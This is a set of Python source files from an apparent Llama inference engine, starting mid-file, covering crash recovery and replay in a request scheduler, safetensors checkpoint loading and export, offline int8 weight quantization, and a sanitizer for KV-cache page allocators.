            self.engine.prefill_seq(seq_id, ids)  # logits discarded: the
            # pending next_token was already sampled pre-crash
        except EnginePoisoned:
            raise
        except Exception as e:
            req.error = f"replay_failed: {type(e).__name__}: {e}"
            req.error_kind = "replay_failed"
            log_event(LOG, "replay_failed", error=req.error)
            self._release_quietly(seq_id)
            req.deltas.put(None)
            req.done.set()
            return
        st.seq_id = seq_id
        self._slots[slot] = st
        METRICS.inc("replays")
        log_event(LOG, "replay", slot=slot, prefilled=len(ids),
                  replay_n=req.replays)

    def _rebuild_and_replay(self, reason: str,
                            implicate_residents: bool) -> None:
        """Crash-only engine recovery: flip not-ready, rebuild the
        engine (fresh cache + allocator, slots cleared), replay
        survivors, flip ready.  ``implicate_residents``: a decode-step
        crash cannot be attributed to one slot, so every resident's
        replay budget is charged; an admit-time prefill crash IS
        attributable (the caller charges the offender) and residents
        replay for free.  A replay that crashes the engine again is
        attributed to the replaying request; the cycle repeats with it
        charged (and eventually quarantined), so the loop terminates."""
        with self._heal_lock:
            self._healthy = False
            METRICS.gauge("sched_healthy", 0.0)
            log_event(LOG, "engine_heal_begin", reason=reason,
                      residents=len(self._slots))
            states = [st for _, st in sorted(self._slots.items())]
            self._slots.clear()
            survivors = []
            for st in states:
                if st.req.done.is_set():
                    continue
                if implicate_residents:
                    if st.req.replays >= self.cfg.max_replays:
                        self._quarantine(st.req, reason)
                        continue
                    st.req.replays += 1
                survivors.append(st)
            while True:
                # chronoslint: disable=CHR001(rebuild+replay MUST serialize under the heal lock — it is the lock's whole purpose; the watchdog's stall detector, not another healer, is the recovery path if this wedges)
                self.engine.rebuild(reason)  # chronoslint: disable=CHR012(same waiver as the CHR001 above: the device_put inside rebuild->shard_cache is the heal itself, serialized under the heal lock by design, with the watchdog stall detector as the recovery path)
                self._last_progress = time.monotonic()
                replayed, offender = [], None
                for i, st in enumerate(survivors):
                    try:
                        # chronoslint: disable=CHR012(replay prefill MUST run under the heal lock: slots are re-occupied against the freshly rebuilt engine and a concurrent healer would re-wedge it; watchdog stall detection covers a hung prefill)
                        self._replay_slot(st)
                        replayed.append(st)
                    except EnginePoisoned as e:
                        offender, reason = st, str(e)
                        break
                if offender is None:
                    break
                # the offender's replay poisoned the fresh cache: charge
                # it alone, then redo the whole round (already-replayed
                # slots sat in the now-dead cache)
                rest = survivors[survivors.index(offender) + 1:]
                self._slots.clear()
                if offender.req.replays >= self.cfg.max_replays:
                    self._quarantine(offender.req, reason)
                    survivors = replayed + rest
                else:
                    offender.req.replays += 1
                    survivors = replayed + [offender] + rest
            self._healthy = True
            METRICS.gauge("sched_healthy", 1.0)
            log_event(LOG, "engine_heal_done", reason=reason,
                      replayed=len(self._slots))
            self._wake.set()

    def _cancel_slot(self, slot: int, st: _SlotState):
        log_event(LOG, "request_cancelled", slot=slot,
                  generated=len(st.out_ids))
        METRICS.inc("requests_cancelled")
        st.req.error = "cancelled"
        self.engine.release(st.seq_id)
        self._slots.pop(slot, None)
        st.req.deltas.put(None)
        st.req.done.set()

    def _finish_semcache_hit(self, req: Request, seq_id: int, decision,
                             t_pf0: float, t_pf1: float) -> None:
        """Complete a request straight from tier-0: the cached
        benign-consensus verdict is the answer, decode never runs, and
        the slot + pages free immediately.  Provenance (source,
        score, consensus width) rides the Request so the server stamps
        the envelope per CHR019."""
        self.engine.release(seq_id)
        req.source = "semcache"
        req.text = json.dumps(decision.verdict)
        req.eval_count = 0
        req.ttft_s = time.monotonic() - req.submitted_at
        METRICS.observe("ttft_s", req.ttft_s, labels={"cache": "semcache"})
        METRICS.observe("verdict_latency_s",
                        time.monotonic() - req.submitted_at,
                        labels={"outcome": "semcache"})
        METRICS.inc("requests_completed")
        if req.trace is not None:
            tid, parent = req.trace
            TRACER.record("sched.prefill", tid, parent, t_pf0, t_pf1)
            TRACER.record("sched.semcache_hit", tid, parent, t_pf1,
                          time.monotonic(),
                          attrs={"score": round(decision.top_score, 4),
                                 "agree": decision.agree})
        req.deltas.put(req.text)
        req.deltas.put(None)
        req.done.set()

    def _semcache_insert(self, st: _SlotState) -> None:
        """Miss path, on the way back: memoize (embedding, verdict) so
        the NEXT semantically-equal chain hits tier-0.  Only clean,
        parseable verdict JSON is inserted — a truncated or free-text
        answer must never become a consensus row."""
        if self.semcache is None or st.embedding is None:
            return
        try:
            v = json.loads(st.req.text)
        except (ValueError, TypeError):
            return
        if not isinstance(v, dict) or "verdict" not in v:
            return
        try:
            self.semcache.insert(st.embedding, v, tier=self.semcache_tier)
        except Exception as e:  # cache trouble must not fail the request
            log_event(LOG, "semcache_insert_failed", error=str(e))

    def _finish(self, slot: int, st: _SlotState, truncated: bool = False):
        t_fin0 = time.monotonic()
        text = self.tok.decode(st.out_ids)
        if st.constrainer is not None and not st.constrainer.complete:
            try:
                text += st.constrainer.v.closing_suffix().decode()
            except Exception:
                pass  # chronoslint: disable=CHR005(cosmetic best-effort JSON close on an already-truncated output; the truncation itself is reported via done_reason, a suffix failure must not fail the request)
        st.req.text = text
        # flush the unstreamed tail (UTF-8-held-back bytes, the final
        # token, closing suffix) so join(deltas) == text exactly
        already = self.tok.decode(st.out_ids[: st.emitted_upto])
        t_detok = time.monotonic()
        tail = text[len(already):]
        if tail:
            st.req.deltas.put(tail)
        verdict_latency = time.monotonic() - st.req.submitted_at
        METRICS.observe("verdict_latency_s", verdict_latency,
                        labels={"outcome": "clean"})
        METRICS.inc("requests_completed")
        if truncated:
            METRICS.inc("requests_truncated")
        if not truncated:
            self._semcache_insert(st)
        self.engine.release(st.seq_id)
        self._slots.pop(slot, None)
        # record BEFORE waking the waiter: the parent server.generate
        # span must not be able to close ahead of these children
        if st.req.trace is not None:
            tid, parent = st.req.trace
            TRACER.record("sched.detokenize", tid, parent, t_fin0, t_detok,
                          attrs={"tokens": len(st.out_ids)})
            TRACER.record("sched.finish", tid, parent, t_fin0,
                          time.monotonic(),
                          attrs={"truncated": truncated,
                                 "tokens": len(st.out_ids)})
        st.req.deltas.put(None)
        st.req.done.set()


def _softmax(x: np.ndarray) -> np.ndarray:
    x = x - np.max(x)
    e = np.exp(x)
    return e / e.sum()
