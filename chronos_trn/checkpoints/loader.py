"""Stock HF Llama-3 safetensors -> chronos_trn param tree.

North-star requirement (BASELINE.json): load stock Llama-3 safetensors
*unchanged*.  HF stores linear weights as ``[out_features, in_features]``
(torch Linear); our model computes ``x @ W`` so each is transposed on
load.  Layers are stacked on axis 0 for the lax.scan body.

For multi-chip tiers (70B) the ``shard_spec`` callback lets the caller
slice each tensor to its local TP shard *while still mmap-backed*, so no
host ever materializes the full checkpoint (SURVEY.md §7 hard part 5).
"""
from __future__ import annotations

import json
import os
from typing import Callable, Optional

import jax.numpy as jnp
import numpy as np

from chronos_trn.config import ModelConfig
from chronos_trn.checkpoints.safetensors_io import CheckpointReader

# our layer-param name -> (HF template, transpose?)
_LAYER_MAP = {
    "attn_norm": ("model.layers.{i}.input_layernorm.weight", False),
    "wq": ("model.layers.{i}.self_attn.q_proj.weight", True),
    "wk": ("model.layers.{i}.self_attn.k_proj.weight", True),
    "wv": ("model.layers.{i}.self_attn.v_proj.weight", True),
    "wo": ("model.layers.{i}.self_attn.o_proj.weight", True),
    "mlp_norm": ("model.layers.{i}.post_attention_layernorm.weight", False),
    "w_gate": ("model.layers.{i}.mlp.gate_proj.weight", True),
    "w_up": ("model.layers.{i}.mlp.up_proj.weight", True),
    "w_down": ("model.layers.{i}.mlp.down_proj.weight", True),
}

ShardFn = Callable[[str, np.ndarray], np.ndarray]


def load_config(model_dir: str) -> ModelConfig:
    with open(os.path.join(model_dir, "config.json")) as f:
        return ModelConfig.from_hf_config(json.load(f))


def load_params(
    model_dir: str,
    cfg: Optional[ModelConfig] = None,
    dtype: Optional[str] = None,
    shard_spec: Optional[ShardFn] = None,
):
    """Load an HF Llama checkpoint dir into the stacked param pytree.

    shard_spec(name, arr) may slice each *already transposed* tensor to
    the local shard; it runs on mmap views so only the slice is copied.
    """
    cfg = cfg or load_config(model_dir)
    target_dtype = jnp.dtype(dtype or cfg.dtype)
    reader = CheckpointReader(model_dir)

    def fetch(name: str, transpose: bool) -> np.ndarray:
        arr = reader.tensor(name)
        if transpose:
            arr = arr.T  # still a view
        if shard_spec is not None:
            arr = shard_spec(name, arr)
        return arr

    def to_jnp(arr: np.ndarray):
        return jnp.asarray(arr, dtype=target_dtype)

    params = {
        "embed": to_jnp(fetch("model.embed_tokens.weight", False)),
        "final_norm": to_jnp(fetch("model.norm.weight", False)),
        "layers": {},
    }
    for ours, (tmpl, transpose) in _LAYER_MAP.items():
        stacked = np.stack(
            [
                np.asarray(fetch(tmpl.format(i=i), transpose))
                for i in range(cfg.n_layers)
            ]
        )
        params["layers"][ours] = to_jnp(stacked)

    if not cfg.tie_embeddings:
        head_name = (
            "lm_head.weight" if "lm_head.weight" in reader else "model.embed_tokens.weight"
        )
        params["lm_head"] = to_jnp(fetch(head_name, True))
    reader.close()
    return params


def cheap_row_init(shape, dtype):
    """Deterministic, cheap, non-degenerate weights for benches and
    dryruns (decode speed does not depend on weight values; threefry-
    generating 16 GB wastes bench time).  Shared by bench.py and
    __graft_entry__ so the two harnesses cannot drift.

    HOST-side (pure numpy, zero-byte broadcast view): eager per-tensor
    ``jnp`` ops would each become their own neuronx-cc compile on the
    neuron backend — dozens of tiny NEFFs per param tree — which is
    exactly the compile storm that timed out the round-3 multichip
    dryrun (VERDICT r3 weak #1).  Inside a ``jit`` use
    :func:`cheap_row_init_device` instead, so the values are generated
    on device in ONE compile rather than embedded as HLO constants."""
    row = (np.arange(shape[-1], dtype=np.float32) % 13.0 - 6.0) * 0.02
    return np.broadcast_to(row.astype(dtype), shape)


def cheap_row_init_device(shape, dtype):
    """Traced twin of :func:`cheap_row_init` for use INSIDE jit (bench's
    sharded device-side param init): same values, generated on device."""
    row = (jnp.arange(shape[-1], dtype=jnp.float32) % 13.0 - 6.0) * 0.02
    return jnp.broadcast_to(row, shape).astype(dtype)


def load_params_sharded(
    model_dir: str,
    cfg: Optional[ModelConfig] = None,
    mesh=None,
    dtype: Optional[str] = None,
):
    """Sharded load for multi-core/multi-chip tiers (70B): every tensor
    is mmap-sliced directly to each device's GSPMD shard via
    ``jax.make_array_from_callback`` — the host never materializes a full
    tensor or the full stacked layer tree, which is what makes a 140 GB
    checkpoint loadable (SURVEY.md §7 hard part 5).  Single-process
    multi-device; multi-host processes combine :func:`load_params` with
    ``parallel.sharding.checkpoint_shard_spec`` +
    ``parallel.multihost.local_tp_rank`` to read only their local slice.
    """
    import jax

    from chronos_trn.parallel.sharding import param_specs, to_shardings

    if mesh is None:
        raise ValueError(
            "load_params_sharded requires a mesh (use load_params for "
            "single-device loads)"
        )
    cfg = cfg or load_config(model_dir)
    target_dtype = jnp.dtype(dtype or cfg.dtype)
    shardings = to_shardings(param_specs(cfg), mesh)
    reader = CheckpointReader(model_dir)

    def mk_flat(name: str, transpose: bool, sh):
        view = reader.tensor(name)
        if transpose:
            view = view.T  # still an mmap-backed view

        def cb(idx):
            # pure numpy: no per-shard device ops, so the load loop can
            # never trigger per-op compiles on the neuron backend
            return np.ascontiguousarray(view[idx]).astype(target_dtype, copy=False)

        return jax.make_array_from_callback(view.shape, sh, cb)

    def mk_stacked(tmpl: str, transpose: bool, sh):
        views = []
        for i in range(cfg.n_layers):
            v = reader.tensor(tmpl.format(i=i))
            views.append(v.T if transpose else v)
        shape = (cfg.n_layers,) + views[0].shape

        def cb(idx):
            layers = range(*idx[0].indices(cfg.n_layers))
            rest = tuple(idx[1:])
            return np.stack(
                [np.ascontiguousarray(views[i][rest]) for i in layers]
            ).astype(target_dtype, copy=False)

        return jax.make_array_from_callback(shape, sh, cb)

    params = {
        "embed": mk_flat("model.embed_tokens.weight", False, shardings["embed"]),
        "final_norm": mk_flat("model.norm.weight", False, shardings["final_norm"]),
        "layers": {
            ours: mk_stacked(tmpl, tr, shardings["layers"][ours])
            for ours, (tmpl, tr) in _LAYER_MAP.items()
        },
    }
    if not cfg.tie_embeddings:
        head_name = (
            "lm_head.weight" if "lm_head.weight" in reader else "model.embed_tokens.weight"
        )
        params["lm_head"] = mk_flat(head_name, True, shardings["lm_head"])
    reader.close()
    return params


def export_params(params: dict, cfg: ModelConfig, path: str):
    """Inverse of load_params: write the param tree back out as one
    HF-named safetensors file (round-trip tested)."""
    from chronos_trn.checkpoints.safetensors_io import save_safetensors

    out = {
        "model.embed_tokens.weight": np.asarray(params["embed"]),
        "model.norm.weight": np.asarray(params["final_norm"]),
    }
    for ours, (tmpl, transpose) in _LAYER_MAP.items():
        stacked = np.asarray(params["layers"][ours])
        for i in range(cfg.n_layers):
            arr = stacked[i]
            out[tmpl.format(i=i)] = arr.T if transpose else arr
    if "lm_head" in params:
        out["lm_head.weight"] = np.asarray(params["lm_head"]).T
    save_safetensors(path, out, metadata={"format": "pt"})
