"""Checkpoint-side weight-only int8 quantizer.

Quantize once at checkpoint time, not at every server start (the guide
rule for trn: weights are transformed at "swizzle" time so launch pays
an mmap load, not a quantization pass over 16 GB).  This module:

  * quantizes a dense param tree HOST-SIDE (pure numpy — eager per-leaf
    ``jnp`` ops on the neuron backend would each become their own
    neuronx-cc compile, the same compile storm cheap_row_init exists to
    avoid) with numerics that mirror ``core.quant`` bit-for-bit: f32
    amax over the input axis, scale cast to the weight dtype, f32
    round-half-even, clip to ±127;
  * writes/reads a single safetensors file in OUR stacked layout
    (``layers.wq.q`` [L, D, QD] int8 + ``layers.wq.s`` [L, QD]), tagged
    ``chronos_quant=int8`` in the header metadata so a loader can't
    mistake it for a dense checkpoint;
  * CLI: ``python -m chronos_trn.checkpoints.quantize <hf_model_dir>
    -o llama3-8b-int8.safetensors`` then serve with
    ``launch.py --checkpoint`` pointing at the original dir for config
    and ``--quant int8`` — or load directly via :func:`load_quantized`.
"""
from __future__ import annotations

import argparse
from typing import Optional

import numpy as np

from chronos_trn.config import ModelConfig
from chronos_trn.core.quant import (
    LAYER_MATS,
    QuantizedEmbedding,
    QuantizedLinear,
)

_METADATA_KEY = "chronos_quant"


def _scale_np(amax: np.ndarray, dtype) -> np.ndarray:
    # mirrors quant._symmetric_scale: f32 amax, zero channels -> scale 1,
    # reciprocal MULTIPLY (matches XLA's lowering of the constant divide)
    return np.where(
        amax > 0, amax * np.float32(1.0 / 127.0), np.float32(1.0)
    ).astype(dtype)


def quantize_linear_np(w):
    """numpy twin of quant.quantize_linear (same rounding: the scale is
    cast to the weight dtype FIRST, then widened to f32 for the divide,
    so offline and at-launch quantization produce identical int8)."""
    wf = np.asarray(w).astype(np.float32)
    amax = np.max(np.abs(wf), axis=-2)
    s = _scale_np(amax, np.asarray(w).dtype)
    q = np.clip(np.rint(wf / s.astype(np.float32)[..., None, :]), -127, 127)
    return q.astype(np.int8), s


def quantize_embedding_np(w):
    """numpy twin of quant.quantize_embedding (per-row scales)."""
    wf = np.asarray(w).astype(np.float32)
    amax = np.max(np.abs(wf), axis=-1)
    s = _scale_np(amax, np.asarray(w).dtype)
    q = np.clip(np.rint(wf / s.astype(np.float32)[..., None]), -127, 127)
    return q.astype(np.int8), s


def quantize_params_host(params: dict) -> dict:
    """Dense param tree (jnp or numpy leaves) -> quantized tree with
    numpy q/s leaves, same positions as core.quant.quantize_params."""
    out = dict(params)
    out["embed"] = QuantizedEmbedding(*quantize_embedding_np(params["embed"]))
    out["final_norm"] = np.asarray(params["final_norm"])
    layers = {}
    for key, w in params["layers"].items():
        if key in LAYER_MATS:
            layers[key] = QuantizedLinear(*quantize_linear_np(w))
        else:
            layers[key] = np.asarray(w)
    out["layers"] = layers
    if "lm_head" in params:
        out["lm_head"] = QuantizedLinear(*quantize_linear_np(params["lm_head"]))
    return out


def save_quantized(params: dict, path: str):
    """Write a (dense or already-quantized) param tree as one quantized
    safetensors file in the stacked chronos layout."""
    from chronos_trn.checkpoints.safetensors_io import save_safetensors

    if not isinstance(params.get("embed"), QuantizedEmbedding):
        params = quantize_params_host(params)
    out = {
        "embed.q": np.asarray(params["embed"].q),
        "embed.s": np.asarray(params["embed"].s),
        "final_norm": np.asarray(params["final_norm"]),
        "layers.attn_norm": np.asarray(params["layers"]["attn_norm"]),
        "layers.mlp_norm": np.asarray(params["layers"]["mlp_norm"]),
    }
    for key in LAYER_MATS:
        ql = params["layers"][key]
        out[f"layers.{key}.q"] = np.asarray(ql.q)
        out[f"layers.{key}.s"] = np.asarray(ql.s)
    if "lm_head" in params:
        out["lm_head.q"] = np.asarray(params["lm_head"].q)
        out["lm_head.s"] = np.asarray(params["lm_head"].s)
    save_safetensors(path, out, metadata={_METADATA_KEY: "int8"})


def load_quantized(path: str) -> dict:
    """Read a save_quantized file back into the quantized param pytree
    (jnp leaves, Quantized* containers) ready for the engine."""
    import jax.numpy as jnp

    from chronos_trn.checkpoints.safetensors_io import SafetensorsFile

    with SafetensorsFile(path) as f:
        names = set(f.keys())
        if "embed.q" not in names:
            raise ValueError(
                f"{path} is not a chronos int8 checkpoint (no embed.q — "
                "quantize it first: python -m chronos_trn.checkpoints.quantize)"
            )

        def t(name):
            return jnp.asarray(np.ascontiguousarray(f.tensor(name)))

        params = {
            "embed": QuantizedEmbedding(t("embed.q"), t("embed.s")),
            "final_norm": t("final_norm"),
            "layers": {
                "attn_norm": t("layers.attn_norm"),
                "mlp_norm": t("layers.mlp_norm"),
            },
        }
        for key in LAYER_MATS:
            params["layers"][key] = QuantizedLinear(
                t(f"layers.{key}.q"), t(f"layers.{key}.s")
            )
        if "lm_head.q" in names:
            params["lm_head"] = QuantizedLinear(t("lm_head.q"), t("lm_head.s"))
    return params


def quantize_checkpoint(
    model_dir: str, out_path: str, dtype: Optional[str] = None
) -> dict:
    """HF checkpoint dir -> quantized chronos safetensors.  Returns
    summary stats (bytes before/after) for logging."""
    from chronos_trn.checkpoints import loader

    cfg = loader.load_config(model_dir)
    params = loader.load_params(model_dir, cfg=cfg, dtype=dtype)

    def nbytes(tree_leaves):
        return sum(int(np.prod(a.shape)) * np.asarray(a).dtype.itemsize
                   for a in tree_leaves)

    import jax

    dense_bytes = nbytes(jax.tree.leaves(params))
    qparams = quantize_params_host(params)
    quant_bytes = nbytes(jax.tree.leaves(qparams))
    save_quantized(qparams, out_path)
    return {
        "model_dir": model_dir,
        "out_path": out_path,
        "dense_bytes": dense_bytes,
        "quant_bytes": quant_bytes,
        "ratio": quant_bytes / max(dense_bytes, 1),
    }


def main(argv=None):
    ap = argparse.ArgumentParser(
        description="Quantize an HF Llama checkpoint to weight-only int8"
    )
    ap.add_argument("model_dir", help="HF checkpoint dir (config.json + safetensors)")
    ap.add_argument("-o", "--out", required=True, help="output .safetensors path")
    ap.add_argument("--dtype", default=None,
                    help="scale/norm dtype override (default: config dtype)")
    args = ap.parse_args(argv)
    stats = quantize_checkpoint(args.model_dir, args.out, dtype=args.dtype)
    print(
        f"quantized {stats['model_dir']} -> {stats['out_path']}: "
        f"{stats['dense_bytes'] / 1e9:.2f} GB -> "
        f"{stats['quant_bytes'] / 1e9:.2f} GB "
        f"({stats['ratio']:.2%} of dense)"
    )


if __name__ == "__main__":
    main()
