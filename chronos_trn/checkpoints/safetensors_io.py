"""Minimal zero-copy safetensors reader/writer (no external deps).

The ``safetensors`` package is not in the trn image, and the format is
simple: ``u64 little-endian header length | JSON header | raw data``.
Each header entry maps tensor name -> {dtype, shape, data_offsets}
relative to the data section.  Reading is mmap-backed so a 70B sharded
checkpoint can be sliced per-device without materializing whole tensors
in host RAM (SURVEY.md §7 hard part 5).

bf16 is handled via ``ml_dtypes`` (ships with jax).
"""
from __future__ import annotations

import json
import mmap
import os
import struct
from typing import Dict, Iterator, Optional, Tuple

import ml_dtypes
import numpy as np

_DTYPES = {
    "F64": np.dtype(np.float64),
    "F32": np.dtype(np.float32),
    "F16": np.dtype(np.float16),
    "BF16": np.dtype(ml_dtypes.bfloat16),
    "F8_E4M3": np.dtype(ml_dtypes.float8_e4m3fn),
    "F8_E5M2": np.dtype(ml_dtypes.float8_e5m2),
    "I64": np.dtype(np.int64),
    "I32": np.dtype(np.int32),
    "I16": np.dtype(np.int16),
    "I8": np.dtype(np.int8),
    "U8": np.dtype(np.uint8),
    "U16": np.dtype(np.uint16),
    "U32": np.dtype(np.uint32),
    "BOOL": np.dtype(np.bool_),
}
_DTYPE_NAMES = {v: k for k, v in _DTYPES.items()}


class SafetensorsFile:
    """mmap-backed view over one .safetensors file."""

    def __init__(self, path: str):
        self.path = path
        f = open(path, "rb")
        self._mm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)
        f.close()
        (header_len,) = struct.unpack("<Q", self._mm[:8])
        self.header: Dict = json.loads(self._mm[8 : 8 + header_len].decode("utf-8"))
        self.metadata = self.header.pop("__metadata__", {})
        self._data_start = 8 + header_len

    def keys(self):
        return self.header.keys()

    def info(self, name: str) -> Tuple[str, tuple]:
        ent = self.header[name]
        return ent["dtype"], tuple(ent["shape"])

    def tensor(self, name: str) -> np.ndarray:
        """Zero-copy view (do not write through it)."""
        ent = self.header[name]
        dt = _DTYPES[ent["dtype"]]
        start, end = ent["data_offsets"]
        buf = memoryview(self._mm)[self._data_start + start : self._data_start + end]
        arr = np.frombuffer(buf, dtype=dt)
        return arr.reshape(ent["shape"])

    def close(self):
        try:
            self._mm.close()
        except BufferError:
            # numpy views of the mmap are still alive; the OS mapping is
            # released when they are garbage-collected instead.
            pass

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()


class CheckpointReader:
    """Uniform reader over a single file or an HF sharded checkpoint dir
    (``model.safetensors.index.json`` -> shard files)."""

    def __init__(self, path: str):
        self._files: Dict[str, SafetensorsFile] = {}
        self._where: Dict[str, str] = {}
        if os.path.isfile(path):
            self._open_file(path)
        else:
            index = os.path.join(path, "model.safetensors.index.json")
            if os.path.exists(index):
                with open(index) as f:
                    idx = json.load(f)
                for name, fname in idx["weight_map"].items():
                    self._where[name] = os.path.join(path, fname)
            else:
                single = os.path.join(path, "model.safetensors")
                if os.path.exists(single):
                    self._open_file(single)
                else:
                    found = sorted(
                        fn for fn in os.listdir(path) if fn.endswith(".safetensors")
                    )
                    if not found:
                        raise FileNotFoundError(f"no safetensors under {path}")
                    for fn in found:
                        self._open_file(os.path.join(path, fn))

    def _open_file(self, fpath: str):
        sf = SafetensorsFile(fpath)
        self._files[fpath] = sf
        for k in sf.keys():
            self._where[k] = fpath

    def _file_for(self, name: str) -> SafetensorsFile:
        fpath = self._where[name]
        if fpath not in self._files:
            self._open_file(fpath)
        return self._files[fpath]

    def keys(self) -> Iterator[str]:
        return iter(self._where.keys())

    def __contains__(self, name: str) -> bool:
        return name in self._where

    def tensor(self, name: str) -> np.ndarray:
        return self._file_for(name).tensor(name)

    def close(self):
        for sf in self._files.values():
            sf.close()


def save_safetensors(
    path: str, tensors: Dict[str, np.ndarray], metadata: Optional[Dict] = None
):
    """Write a spec-compliant .safetensors file (used for LoRA adapter
    checkpoints and test fixtures)."""
    header: Dict[str, Dict] = {}
    if metadata:
        header["__metadata__"] = {str(k): str(v) for k, v in metadata.items()}
    offset = 0
    arrays = {}
    for name, arr in tensors.items():
        arr = np.ascontiguousarray(arr)
        dt = _DTYPE_NAMES.get(arr.dtype)
        if dt is None:
            raise TypeError(f"unsupported dtype {arr.dtype} for {name}")
        n = arr.nbytes
        header[name] = {
            "dtype": dt,
            "shape": list(arr.shape),
            "data_offsets": [offset, offset + n],
        }
        arrays[name] = arr
        offset += n
    hjson = json.dumps(header, separators=(",", ":")).encode("utf-8")
    pad = (8 - len(hjson) % 8) % 8
    hjson += b" " * pad
    with open(path, "wb") as f:
        f.write(struct.pack("<Q", len(hjson)))
        f.write(hjson)
        for arr in arrays.values():
            f.write(arr.tobytes())
