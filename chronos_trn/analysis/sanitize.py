"""CHRONOS_SANITIZE=1 — shadow-ownership sanitizer for the KV allocators.

ASAN for the page pool: wraps :class:`~chronos_trn.core.kvcache.
PageAllocator` / :class:`SlotContiguousAllocator` in a proxy that
revalidates the free/seq/cache three-way ownership invariant after every
mutation, attributes violations with the ALLOCATING (and freeing) stack,
and poisons dead block tables so stale holders fail loudly instead of
silently reading a recycled page.

Design notes:

* Validation recomputes ownership from ground truth (the inner
  allocator's own state) rather than relying on pure interception —
  necessary because the pressure-reclaim path hands the INNER allocator
  to ``reclaimer.reclaim_pages(self, need)``, so ``give_back`` calls
  made under allocator pressure bypass the wrapper entirely.
* The wrapper is transparent: unknown attributes (``cfg``,
  ``free_pages``, ``slot_of`` …) delegate to the inner allocator, and
  unknown attribute WRITES (``alloc.reclaimer = cache``) forward too, so
  engine code needs zero changes beyond :func:`maybe_wrap_allocator`.
* ``OutOfPages`` propagates unchanged — the scheduler's admission
  control catches it by identity.

Enable with ``CHRONOS_SANITIZE=1`` (accepted truthy: 1/true/yes/on).
Violations raise :class:`SanitizerError` (an ``AssertionError`` subclass
so existing check_invariants call sites and pytest treat it the same).
"""
from __future__ import annotations

import os
import traceback
from typing import List, Optional, Set

POISON_PAGE = -1  # written into dead block tables; any use traps in np/jnp

# NOTE: no import of core.kvcache here — that module pulls jax, and the
# chronoslint CLI imports this package; layout detection duck-types on
# the slot-major allocator's `_free_slots` instead.


def _is_slot_major(alloc) -> bool:
    return hasattr(alloc, "_free_slots")


class SanitizerError(AssertionError):
    """An ownership invariant was violated; message carries attribution."""


def sanitize_enabled() -> bool:
    return os.environ.get("CHRONOS_SANITIZE", "").strip().lower() in (
        "1", "true", "yes", "on",
    )


def maybe_wrap_allocator(alloc):
    """Wrap ``alloc`` in an :class:`AllocatorSanitizer` when
    ``CHRONOS_SANITIZE`` is on; identity otherwise.  Call sites wrap at
    creation, BEFORE attaching ``.reclaimer``."""
    if not sanitize_enabled():
        return alloc
    if isinstance(alloc, AllocatorSanitizer):  # idempotent
        return alloc
    return AllocatorSanitizer(alloc)


def _stack(skip: int = 2) -> str:
    """Trimmed formatted stack of the caller's caller (the mutating
    engine/cache frame, not the sanitizer's own)."""
    frames = traceback.format_stack()[:-skip]
    return "".join(frames[-6:])  # innermost frames carry the blame


class AllocatorSanitizer:
    """Transparent validating proxy around a page allocator.

    Intercepts the mutating surface (``allocate`` / ``extend`` /
    ``truncate`` / ``free`` / ``give_back``), records allocating and
    freeing stacks per page and per sequence, poisons freed block
    tables, and runs :meth:`validate` after every mutation.  Call
    :meth:`assert_quiescent` at end of test/run to catch refcount
    leak-on-finish."""

    # attributes that live on the wrapper itself; everything else
    # (reads AND writes) forwards to the inner allocator
    _OWN = frozenset({
        "_inner", "_seq_stacks", "_page_stacks", "_free_stacks", "_reports",
        "_parked",
    })

    def __init__(self, inner):
        object.__setattr__(self, "_inner", inner)
        object.__setattr__(self, "_seq_stacks", {})   # seq_id -> alloc stack
        object.__setattr__(self, "_page_stacks", {})  # page -> alloc stack
        object.__setattr__(self, "_free_stacks", {})  # page -> free stack
        object.__setattr__(self, "_reports", [])      # raised messages (audit)
        object.__setattr__(self, "_parked", None)     # spec_verify window

    # -- transparency ------------------------------------------------------
    def __getattr__(self, name):
        return getattr(object.__getattribute__(self, "_inner"), name)

    def __setattr__(self, name, value):
        if name in self._OWN:
            object.__setattr__(self, name, value)
        else:
            setattr(self._inner, name, value)

    # -- attribution helpers ----------------------------------------------
    def _blame(self, page: Optional[int] = None,
               seq_id: Optional[int] = None) -> str:
        parts = []
        if page is not None and page in self._page_stacks:
            parts.append(f"page {page} allocated at:\n{self._page_stacks[page]}")
        if page is not None and page in self._free_stacks:
            parts.append(f"page {page} freed at:\n{self._free_stacks[page]}")
        if seq_id is not None and seq_id in self._seq_stacks:
            parts.append(f"seq {seq_id} allocated at:\n{self._seq_stacks[seq_id]}")
        return "\n".join(parts) or "(no stack recorded — mutation bypassed " \
            "the wrapper, e.g. pressure-reclaim or direct state corruption)"

    def _raise(self, msg: str) -> None:
        self._reports.append(msg)
        raise SanitizerError(msg)

    def _record_owned(self, st, stack: str) -> None:
        n = self._inner.pages_needed(st.length)
        for p in st.block_table[st.n_borrowed:n]:
            p = int(p)
            self._page_stacks[p] = stack
            self._free_stacks.pop(p, None)

    # -- validated mutations ----------------------------------------------
    def allocate(self, seq_id: int, length: int, *args, **kwargs):
        stack = _stack()
        st = self._inner.allocate(seq_id, length, *args, **kwargs)
        self._seq_stacks[seq_id] = stack
        self._record_owned(st, stack)
        self.validate(f"allocate(seq={seq_id}, length={length})")
        return st

    def extend(self, seq_id: int, new_length: int):
        stack = _stack()
        st = self._inner.extend(seq_id, new_length)
        self._record_owned(st, stack)
        self.validate(f"extend(seq={seq_id}, new_length={new_length})")
        return st

    def truncate(self, seq_id: int, new_length: int):
        stack = _stack()
        st = self._inner.truncate(seq_id, new_length)
        # pages past the kept range just re-entered the free list
        for p in self._inner._free:
            if int(p) in self._page_stacks:
                self._free_stacks.setdefault(int(p), stack)
        self.validate(f"truncate(seq={seq_id}, new_length={new_length})")
        return st

    def free(self, seq_id: int) -> None:
        stack = _stack()
        st = self._inner.get(seq_id)
        self._inner.free(seq_id)
        if st is not None:
            n = self._inner.pages_needed(st.length)
            for p in st.block_table[st.n_borrowed:n]:
                self._free_stacks[int(p)] = stack
            # poison: any stale holder of this block table now indexes
            # POISON_PAGE instead of silently reading a recycled page
            st.block_table[:] = POISON_PAGE
        self._seq_stacks.pop(seq_id, None)
        self.validate(f"free(seq={seq_id})")

    def give_back(self, page: int) -> None:
        stack = _stack()
        page = int(page)
        if page in set(int(p) for p in getattr(self._inner, "_free", [])):
            self._raise(
                f"double-free: give_back(page={page}) but the page is "
                f"already on the free list\n{self._blame(page=page)}"
            )
        self._inner.give_back(page)
        self._free_stacks[page] = stack
        self.validate(f"give_back(page={page})")

    def check_invariants(self) -> None:
        self.validate("check_invariants")

    # -- speculative deferred-commit window --------------------------------
